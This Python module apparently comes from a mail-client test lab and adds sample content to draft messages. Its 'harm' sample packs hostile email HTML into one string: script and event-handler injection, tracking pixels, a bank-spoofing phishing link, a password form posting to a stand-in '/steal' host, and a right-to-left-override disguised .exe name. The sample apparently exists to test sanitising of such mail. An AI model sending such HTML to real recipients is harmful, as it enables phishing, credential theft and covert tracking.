"""What can be put into a message with one click: a file, a picture, HTML, and HTML that tries to harm whoever reads it."""

from __future__ import annotations

import base64
from dataclasses import replace

from twistmail.lab.drafts import Draft, Enclosure

_NOTES = b"Notes\r\n=====\r\n\r\nA file goes with a message as a part of its own (RFC 2046), in base64 (RFC 2045).\r\n"
#: A blue square of 16 by 16 points.
_PICTURE = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAFklEQVR42mOQ8m4jCTGMahjVMHw1AACEGesBwrK0FAAAAABJRU5ErkJggg==")
_HTML = (
    '<h1>Lunch?</h1><p>In <b>bold</b>, <i>italics</i> and <span style="color:#1a4b86">colour</span>, with a picture that came along: '
    '<img src="cid:square@sample" alt="a blue square"></p><p>And <a href="https://www.rfc-editor.org/rfc/rfc2557">a link</a>.</p>'
)
_HARM = (
    "<p>Your account ends today!</p><script>document.body.innerHTML = 'This script has run.'</script>"
    '<img src="http://192.0.2.30/seen.gif?who=you" alt="a picture that tells its owner when you read this" width="1" height="1">'
    "<img src=x onerror=\"document.body.innerHTML = 'This handler has run.'\">"
    '<p>Log in at <a href="http://192.0.2.30/login">https://your-bank.example/</a></p>'
    '<form action="http://192.0.2.30/steal"><input name="password" placeholder="Your password"><button>Log in</button></form>'
    "<p>See invoice_\u202efdp.exe</p><svg onload=\"document.body.innerHTML = 'This drawing has run.'\"></svg>"
    '<iframe src="http://192.0.2.30/"></iframe><p style="background:url(http://192.0.2.30/also-seen.gif)">Bye</p>'
)

#: What can be chosen: (the form's word, what people read).
SAMPLES = (
    ("", "nothing"),
    ("file", "a text file"),
    ("picture", "a picture"),
    ("html", "HTML, with a picture in it"),
    ("harm", "HTML that tries to harm its reader"),
)


def with_sample(draft: Draft, name: str) -> Draft:
    """*draft* with one of SAMPLES; as it is for any other name."""
    square = Enclosure("square.png", "image/png", _PICTURE, "square@sample")
    match name:
        case "file":
            return replace(draft, enclosures=(*draft.enclosures, Enclosure("notes.txt", "text/plain", _NOTES)))
        case "picture":
            return replace(draft, enclosures=(*draft.enclosures, replace(square, content_id="")))
        case "html":
            return replace(draft, html=_HTML, enclosures=(*draft.enclosures, square))
        case "harm":
            return replace(draft, html=_HARM)
    return draft
